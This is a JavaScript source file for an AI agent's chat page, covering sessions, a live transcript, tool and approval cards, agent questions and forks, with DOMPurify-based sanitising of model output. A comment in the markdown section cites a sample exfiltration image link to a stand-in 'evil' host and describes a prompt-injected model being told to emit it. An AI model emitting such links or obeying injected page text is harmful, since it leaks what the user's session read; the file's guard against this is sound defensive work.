// Pincer's chat page: sessions, the transcript, live events over one WebSocket, approvals, forks.
// Everything the model or a tool wrote is untrusted: text goes in as text, markdown through DOMPurify.
"use strict";

// The page's own elements, looked up once at load: nothing rendered later (a model's reply) can stand
// in for one, whatever ids it might carry.
const ui = new Map();
const $ = (id) => ui.get(id);
const state = { me: null, session: null, socket: null, live: null, sessions: [], sent: [], forking: false,
  liveCards: new Map(), approvalCards: new Map(), questionCards: new Map() };

function el(tag, props = {}, ...children) {
  const node = document.createElement(tag);
  for (const [key, value] of Object.entries(props)) {
    if (key === "class") node.className = value;
    else if (key.startsWith("on")) node.addEventListener(key.slice(2), value);
    else if (value !== undefined && value !== null) node.setAttribute(key, value);
  }
  for (const child of children) node.append(child instanceof Node ? child : document.createTextNode(String(child)));
  return node;
}

async function api(method, path, body) {
  const response = await fetch(path, {
    method, credentials: "same-origin",
    headers: body === undefined ? {} : { "Content-Type": "application/json" },
    body: body === undefined ? undefined : JSON.stringify(body),
  });
  const data = await response.json().catch(() => ({}));
  if (!response.ok) throw Object.assign(new Error(data.error?.message || response.statusText), { status: response.status });
  return data;
}

// -- markdown, safely ----------------------------------------------------------------------------
// Links open apart from the page; an image from another origin is not fetched (a model told by a
// hostile page to show ![](https://evil/?secret=...) would leak what it read): it becomes its address.
function linksOpenApart() {
  window.DOMPurify.addHook("afterSanitizeAttributes", (node) => {
    if (node.tagName === "A") { node.setAttribute("rel", "noopener noreferrer nofollow"); node.setAttribute("target", "_blank"); }
    if (node.hasAttribute && node.hasAttribute("src")) {
      const src = node.getAttribute("src") || "";
      if (!src.startsWith("data:") && new URL(src, location.href).origin !== location.origin) {
        node.replaceWith(document.createTextNode(`[image not loaded: ${src}]`));
      }
    }
  });
}

// Rendered content is text with formatting, never part of the page: no form controls or anything that
// takes input, no names the page or a form could be reached by (id, name, form, for), none of the page's
// own classes or data attributes, no focus or keys, and no second way to load an image (srcset, poster).
const CONTENT = {
  USE_PROFILES: { html: true },
  FORBID_TAGS: ["style", "form", "input", "button", "textarea", "select", "option", "optgroup", "datalist",
    "output", "label", "fieldset", "legend", "dialog", "iframe", "object", "embed", "frame", "frameset",
    "meta", "link", "base", "audio", "video", "source", "track", "picture", "map", "area"],
  FORBID_ATTR: ["style", "id", "name", "class", "form", "for", "formaction", "autofocus", "tabindex", "accesskey",
    "contenteditable", "srcset", "sizes", "poster", "background", "usemap", "popover", "popovertarget"],
  ALLOW_DATA_ATTR: false,
  ALLOW_ARIA_ATTR: false,
};

function markdown(text) {
  const html = window.DOMPurify.sanitize(window.marked.parse(text || "", { gfm: true, breaks: false }), CONTENT);
  const holder = el("div", { class: "msg assistant" });
  holder.innerHTML = html;
  for (const pre of holder.querySelectorAll("pre")) {
    const code = pre.textContent;
    pre.append(el("button", { class: "copy", type: "button", "aria-label": "Copy code",
      onclick: (e) => { navigator.clipboard?.writeText(code); e.target.textContent = "Copied"; } }, "Copy"));
  }
  return holder;
}

// -- rendering -----------------------------------------------------------------------------------
function userBubble(text) { return el("div", { class: "msg user" }, text); }

// The session's message n as the transcript has it (n counts its user entries, as the fork API does),
// with "fork from here" beside it. A message sent from this page gets its action when its turn ends and
// the transcript is shown again: its number is then the transcript's, never a guess.
function askedBubble(text, n) {
  return el("div", { class: "asked" }, userBubble(text),
    el("button", { type: "button", class: "fork", "aria-label": `Fork from here (message ${n})`,
      title: "A new conversation holding the messages up to this one and their answers",
      onclick: () => forkAt(n) }, "Fork from here"));
}

function toolCard(entry, call) {
  const meta = entry.metadata || {};
  const ok = meta.success !== false;
  const facts = [meta.error_code, meta.duration_ms !== undefined ? `${meta.duration_ms} ms` : null,
    meta.sandbox ? `sandbox ${meta.sandbox}` : null].filter(Boolean).join(" · ");
  const card = el("details", { class: ok ? "tool" : "tool failed", "data-call": meta.call_id || "" },
    el("summary", {}, `${ok ? "✓" : "✗"} ${entry.name || "tool"}${facts ? " — " + facts : ""}`),
    el("div", { class: "body" },
      el("div", { class: "note" }, "arguments"), el("pre", {}, call ? call.function.arguments : "(unknown)"),
      el("div", { class: "note" }, ok ? "result" : "error"), el("pre", {}, entry.content || ""),
      meta.child_session ? el("button", { type: "button", class: "sub-session",
        onclick: () => openSession(meta.child_session.split("/").slice(1).join("/")) },
        "Open the sub-agent's session") : ""));
  return card;
}

function liveToolCard(event) {
  let card = state.liveCards.get(event.call_id);
  if (!card) {
    card = el("details", { class: "tool" },
      el("summary", {}, `… ${event.tool}`), el("div", { class: "body" }, el("pre", { class: "args" },
        event.arguments || event.summary || "")),
      el("pre", { class: "progress", hidden: "" }), el("div", { class: "children" }));
    state.liveCards.set(event.call_id, card);
    // A sub-agent's call goes inside the card of the delegate call it ran under.
    const parent = event.parent_call_id && state.liveCards.get(event.parent_call_id);
    if (parent) {
      parent.open = true;
      parent.querySelector(":scope > .children").append(card);
    } else append(card);
  }
  const summary = card.querySelector("summary");
  if (event.status === "progress") {
    const progress = card.querySelector(".progress");
    progress.hidden = false;
    progress.textContent = event.summary;
  } else if (event.status === "finished") {
    const ok = !event.error_code;
    const facts = [ok ? null : event.summary, event.duration_ms !== undefined ? `${event.duration_ms} ms` : null,
      event.sandbox ? `sandbox ${event.sandbox}` : null].filter(Boolean).join(" · ");
    card.className = ok ? "tool" : "tool failed";
    summary.textContent = `${ok ? "✓" : "✗"} ${event.tool}${facts ? " — " + facts : ""}`;
    if (event.answer) card.querySelector(".body").append(el("div", { class: "note" }, "answer"),
      el("pre", { class: "answer" }, event.answer));
  }
}

function approvalCard(event) {
  const decide = async (decision) => {
    card.querySelectorAll("button").forEach((b) => { b.disabled = true; });
    send({ type: "decide", approval_id: event.approval_id, decision });
  };
  const card = el("div", { class: "approval", role: "group", "aria-label": `Approval for ${event.tool}` },
    el("strong", {}, `${event.tool} asks to run:`), el("pre", {}, event.summary),
    el("div", { class: "actions" },
      el("button", { type: "button", onclick: () => decide("allow-once") }, "Allow once"),
      event.always_allowed ? el("button", { type: "button", onclick: () => decide("allow-always") }, "Allow always") : "",
      el("button", { type: "button", onclick: () => decide("deny") }, "Deny")));
  state.approvalCards.set(event.approval_id, card);
  append(card);
  // Said, not focused: a key meant for the message box must never answer an approval.
  status(`${event.tool} waits for your approval: Allow or Deny in the conversation.`);
}

// The agent's questions (ask_user): a choice is a button, a question without choices a text box. Every
// word of them goes in as text; the answers are kept by this card's own handlers, never read from the page.
function questionCard(event) {
  const answers = event.questions.map(() => null);
  const submit = el("button", { type: "button", disabled: "" }, "Send answers");
  const answer = () => {
    card.querySelectorAll("button, input").forEach((b) => { b.disabled = true; });
    send({ type: "answer", question_id: event.question_id, answers, ref: `answer:${event.question_id}` });
  };
  const ready = () => { submit.disabled = answers.some((a) => a === null); };
  const one = event.questions.length === 1 && event.questions[0].choices.length > 0;  // a tap answers it
  const parts = event.questions.map((question, index) => {
    if (question.choices.length === 0) {
      const box = el("input", { type: "text", maxlength: "2000", "aria-label": `Answer ${index + 1}`,
        oninput: () => { answers[index] = box.value.trim() || null; ready(); },
        onkeydown: (e) => { if (e.key === "Enter" && !submit.disabled) { e.preventDefault(); answer(); } } });
      return el("div", { class: "question" }, el("p", {}, question.text), box);
    }
    const buttons = question.choices.map((choice) => el("button", { type: "button", "aria-pressed": "false",
      onclick: () => {
        answers[index] = choice;
        buttons.forEach((b) => b.setAttribute("aria-pressed", String(b === buttonOf.get(choice))));
        if (one) answer(); else ready();
      } }, choice));
    const buttonOf = new Map(question.choices.map((choice, n) => [choice, buttons[n]]));
    return el("div", { class: "question" }, el("p", {}, question.text), el("div", { class: "actions" }, ...buttons));
  });
  submit.addEventListener("click", answer);
  const card = el("div", { class: "question-card", role: "group", "aria-label": "The agent asks you" },
    el("strong", {}, "The agent asks:"), ...parts, one ? "" : el("div", { class: "actions" }, submit));
  // After a refused answer: open again, Send only once every question has an answer.
  const reopen = () => { card.querySelectorAll("button, input").forEach((b) => { b.disabled = false; }); ready(); };
  state.questionCards.set(event.question_id, { card, reopen });
  append(card);
  // Said, not focused: a key meant for the message box must never answer a question.
  status("The agent asks you something: answer in the conversation.");
}

// An answer the Gateway refused: a question gone (answered elsewhere, expired) leaves a note; otherwise the
// card may be answered again. The turn runs on either way.
function answerRefused(frame) {
  const id = frame.ref.slice("answer:".length);
  const asked = state.questionCards.get(id);
  status(`${frame.code}: ${frame.message}`, true);
  if (!asked) return;
  if (frame.code === "NOT_FOUND") {
    state.questionCards.delete(id);
    asked.card.replaceWith(el("p", { class: "note" }, "This question was answered elsewhere, or it expired."));
  } else asked.reopen();
}

function append(node) {
  const box = $("transcript");
  const atEnd = box.scrollHeight - box.scrollTop - box.clientHeight < 40;
  box.append(node);
  if (atEnd) box.scrollTop = box.scrollHeight;
}

function renderTranscript(entries) {
  const box = $("transcript");
  box.replaceChildren();
  state.liveCards.clear();
  const calls = new Map();
  let asked = 0;
  for (const entry of entries) {
    if (entry.role === "user") box.append(askedBubble(entry.content || "", ++asked));
    else if (entry.role === "assistant") {
      for (const call of entry.tool_calls || []) calls.set(call.id, call);
      if (entry.content) box.append(markdown(entry.content));
    } else if (entry.role === "tool") box.append(toolCard(entry, calls.get(entry.tool_call_id)));
  }
  box.scrollTop = box.scrollHeight;
}

// -- sessions ------------------------------------------------------------------------------------
// A session is shown by its title (its first message, or as renamed) with its name beneath: two
// sessions may share a title (a fork keeps its source's), never a name.
function sessionLabel(about) {
  const label = [el("span", { class: "title" }, about.title || about.id), " ", el("small", { class: "sid" }, about.id)];
  // An archived session (idle past runtime.retention.transcript_days) reads from the data dir.
  if (about.archived) label.push(" ", el("small", { class: "sid" }, "archived"));
  return label;
}

function showTitle() {
  const about = state.sessions.find((s) => s.id === state.session);
  $("session-title").textContent = about?.title || (about ? about.id : "New chat");
  $("session-name").textContent = about ? about.id : "";
}

async function loadSessions() {
  const { details } = await api("GET", "/v1/sessions");
  state.sessions = details;
  const list = $("sessions");
  list.replaceChildren(...details.map((about) => el("li", {}, el("button", { type: "button",
    "aria-current": String(about.id === state.session), onclick: () => openSession(about.id) },
  ...sessionLabel(about)))));
  showTitle();
}

async function openSession(id, { fresh = false } = {}) {
  state.session = id;
  state.subscribed = null;
  state.live = null;
  showTitle();
  history.replaceState(null, "", `#${encodeURIComponent(id)}`);
  if (fresh) $("transcript").replaceChildren();
  else {
    try { renderTranscript((await api("GET", `/v1/sessions/${encodeURIComponent(id)}`)).entries); }
    catch (error) { if (error.status !== 404) status(error.message, true); $("transcript").replaceChildren(); }
  }
  subscribe();
  loadSessions().catch(() => {});
  $("text").focus();
}

// The fork is named after its source and message (`web-1a2b-fork-2`); a name in use (409) takes the next
// suffix (`-fork-2-2`, ...). Nothing is asked of the model: the fork opens with the copied history.
const FORK_TRIES = 20;

async function forkAt(n) {
  if (state.forking) return;  // one at a time: a double click makes one fork
  state.forking = true;
  const source = state.session;
  try {
    for (let attempt = 1; attempt <= FORK_TRIES; attempt++) {
      const suffix = `-fork-${n}${attempt > 1 ? `-${attempt}` : ""}`;
      const name = source.slice(0, 128 - suffix.length) + suffix;  // session names are at most 128 characters
      try {
        const made = await api("POST", `/v1/sessions/${encodeURIComponent(source)}/fork`, { at: n, name });
        status("");
        await openSession(made.session_id);
        return;
      } catch (error) {
        if (error.status !== 409) { status(error.message, true); return; }
      }
    }
    status(`No free name for the fork: ${source}-fork-${n} to ${source}-fork-${n}-${FORK_TRIES} are taken.`, true);
  } finally { state.forking = false; }
}

function newSessionId() {
  const bytes = crypto.getRandomValues(new Uint8Array(8));
  return "web-" + Array.from(bytes, (b) => b.toString(16).padStart(2, "0")).join("");
}

// -- the socket ----------------------------------------------------------------------------------
function connect() {
  const scheme = location.protocol === "https:" ? "wss" : "ws";
  const socket = new WebSocket(`${scheme}://${location.host}/v1/ws`);
  state.socket = socket;
  socket.addEventListener("open", () => status(""));
  socket.addEventListener("message", (message) => onFrame(JSON.parse(message.data)));
  socket.addEventListener("close", () => {
    status("Reconnecting…");
    setTimeout(connect, 1500);
  });
}

function send(frame) {
  if (state.socket?.readyState === WebSocket.OPEN) state.socket.send(JSON.stringify(frame));
  else status("Not connected; retrying…", true);
}

// A session that does not exist yet cannot be followed (it is nobody's): a new chat subscribes once
// its first message is accepted, from the log's start.
function subscribe(after) {
  if (state.session && state.socket?.readyState === WebSocket.OPEN)
    send({ type: "subscribe", session: state.session, ref: "subscribe", ...(after ? { after } : {}) });
}

function onFrame(frame) {
  switch (frame.type) {
    case "ready": subscribe(); break;
    case "subscribed": state.subscribed = frame.session; break;
    case "event": if (frame.session === state.session) onEvent(frame); break;
    case "resync": if (frame.session === state.session) openSession(state.session); break;
    case "error":
      if (frame.ref === "subscribe" && frame.code === "NOT_FOUND") break;  // a new chat: see subscribe()
      if (typeof frame.ref === "string" && frame.ref.startsWith("answer:")) { answerRefused(frame); break; }
      status(`${frame.code}: ${frame.message}`, true); busy(false); break;
    case "accepted":
      busy(true);
      if (frame.session_id === state.session && state.subscribed !== state.session) subscribe("0");
      break;
    default: break;
  }
}

function onEvent(event) {
  switch (event.event) {
    case "message":
      {
        const mine = state.sent.indexOf(event.text);  // this page showed it when it was sent
        if (mine >= 0) state.sent.splice(mine, 1); else append(userBubble(event.text));
      }
      busy(true);
      break;
    case "delta":
      if (!state.live) { state.live = { text: "", node: el("div", { class: "msg assistant" }) }; append(state.live.node); }
      state.live.text += event.text;
      state.live.node.textContent = state.live.text;
      break;
    case "tool": liveToolCard(event); break;
    case "approval": approvalCard(event); break;
    case "approval_decided": {
      const card = state.approvalCards.get(event.approval_id);
      state.approvalCards.delete(event.approval_id);
      if (card) card.replaceWith(el("p", { class: "note" }, `${event.decision} by ${event.by}`));
      status("");
      break;
    }
    case "question": questionCard(event); break;
    case "question_answered": {
      const asked = state.questionCards.get(event.question_id);
      state.questionCards.delete(event.question_id);
      if (asked) asked.card.replaceWith(el("p", { class: "note" }, `answered by ${event.by}: ${event.answers.join(" · ")}`));
      status("");
      break;
    }
    case "reply": case "error": case "cancelled":
      busy(false);
      state.live = null;
      if (event.event !== "reply") status(event.event === "cancelled" ? "Stopped." : `${event.code}: ${event.message}`,
        event.event === "error");
      openSession(state.session);  // the transcript has every card in full now
      break;
    default: break;
  }
}

function busy(on) { $("stop").disabled = !on; $("send").disabled = on; }
function status(text, failed = false) { const s = $("status"); s.textContent = text; s.classList.toggle("error", failed); }

// -- start ---------------------------------------------------------------------------------------
async function start() {
  try { state.me = await api("GET", "/v1/me"); }
  catch (error) { $("signin").hidden = false; $("token").focus(); return; }
  $("signin").hidden = true;
  $("app").hidden = false;
  $("whoami").textContent = state.me.name;
  $("agent").replaceChildren(...state.me.agents.map((a) => el("option", { value: a }, a)));
  showTabs(state.me.operator);  // console.js: an operator's views for operators alone
  connect();
  const wanted = decodeURIComponent(location.hash.slice(1));
  await openSession(wanted || newSessionId(), { fresh: !wanted });
}

document.addEventListener("DOMContentLoaded", () => {
  for (const node of document.querySelectorAll("[id]")) ui.set(node.id, node);
  linksOpenApart();
  $("signin-form").addEventListener("submit", async (event) => {
    event.preventDefault();
    try { await api("POST", "/login", { token: $("token").value }); $("token").value = ""; start(); }
    catch (error) { $("signin-error").textContent = error.message; }
  });
  $("composer").addEventListener("submit", (event) => {
    event.preventDefault();
    const text = $("text").value.trim();
    if (!text) return;
    append(userBubble(text));
    state.sent.push(text);
    send({ type: "send", session: state.session, text, agent_id: $("agent").value });
    $("text").value = "";
  });
  $("text").addEventListener("keydown", (event) => {
    if (event.key === "Enter" && !event.shiftKey) { event.preventDefault(); $("composer").requestSubmit(); }
  });
  $("stop").addEventListener("click", () => send({ type: "cancel", session: state.session }));
  $("new-session").addEventListener("click", () => openSession(newSessionId(), { fresh: true }));
  $("delete-session").addEventListener("click", async () => {
    if (!confirm("Delete this conversation?")) return;
    await api("DELETE", `/v1/sessions/${encodeURIComponent(state.session)}`).catch(() => {});
    openSession(newSessionId(), { fresh: true });
  });
  $("signout").addEventListener("click", async () => { await api("POST", "/logout", {}); location.reload(); });
  start();
});
